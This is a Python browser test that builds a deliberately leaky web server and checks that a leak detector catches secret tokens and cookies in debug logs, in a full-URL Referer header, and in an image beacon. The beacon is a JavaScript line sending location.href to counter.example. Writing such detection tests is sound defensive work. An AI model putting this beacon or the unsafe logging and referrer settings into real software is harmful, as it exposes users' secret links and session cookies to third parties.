"""A house that tells the secrets of its links is caught by the search that `tests/stories/test_overheard.py` makes."""

from typing import Any

import pytest
import structlog

from tests.web.overheard import overhearing
from tests.web.phones import shop
from tests.web.test_in_a_browser import serving
from web import headers

pytestmark = pytest.mark.browser
TOKEN = "a-token-that-only-the-client-knows"


async def test_a_house_that_tells_is_caught(scene: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Paths in the log at its last level, a Referer with the whole address, a counter of visits on another host."""
    log = structlog.get_logger("web")

    async def telling(scope: Any, receive: Any, send: Any) -> None:
        log.debug("asked", path=scope["path"], cookies=[value for name, value in scope["headers"] if name == b"cookie"])
        await scene.app(scope, receive, send)

    monkeypatch.setitem(headers.FIXED, "Referrer-Policy", "unsafe-url")
    door = await scene.link(TOKEN)
    async with overhearing() as heard, serving(heard.wraps(telling)) as address:
        heard.own = address.removeprefix("http://")
        async with shop("fr", *heard.flags) as phones:
            phone = await phones.phone(bypass_csp=True)
            heard.watches(phone.page.context)
            await phone.opens(address + door)
            await phone.page.goto(address + door)
            async with phone.page.expect_event("requestfinished", lambda asked: "counter" in asked.url):
                await phone.page.evaluate("new Image().src = `http://counter.example/?from=${location.href}`")
            cookies = [str(cookie["value"]) for cookie in await phone.page.context.cookies()]
    assert heard.finds([TOKEN]) == {"log": 1, "referer": 1, "elsewhere": 1}
    assert heard.finds(cookies)["log"] == len(cookies) == 2
    assert len(heard.asked_by_pages) == 1
    assert any(said.startswith("GET http://counter.example/") for said in heard.elsewhere), "seen by the proxy too"
